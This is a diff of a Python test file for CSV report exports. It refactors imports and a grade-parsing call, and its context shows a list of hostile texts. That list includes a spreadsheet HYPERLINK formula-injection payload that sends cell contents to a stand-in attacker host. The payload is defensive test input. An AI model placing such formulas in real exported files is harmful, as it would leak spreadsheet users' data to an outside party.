@@ -13,8 +13,9 @@ from hypothesis import strategies as st
 
 from forces.models import Force
 from reports import exports
-from reports.models import AreaForImprovement, CauseOfConcern, Grade, GradeStatus, Question, Recommendation, Report, Round, Tier
-from reports.services import grade_word_parse, grades_load
+from reports.models import AreaForImprovement, CauseOfConcern, Grade, Question, Recommendation, Report, Round
+from reports.services import grades_load
+from reports.vocabulary import GradeStatus, Tier
 
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -173,7 +174,7 @@ class TestGradesCsv:
         for row in rows:
             grade = grades[row["force_slug"], row["round"], row["question_or_area"]]
             assert row["grade"] not in internal_codes
-            assert grade_word_parse(row["grade"], round_=grade.question.round) == (grade.status, grade.tier)
+            assert grade.question.round.grade_word_parse(row["grade"]) == (grade.status, grade.tier)
             assert row["grade_order"] == ("" if grade.tier is None else str(grade.tier))
             assert row["carried_over"] == ("yes" if grade.carried_over else "no")
             assert row["evidence"] == grade.evidence
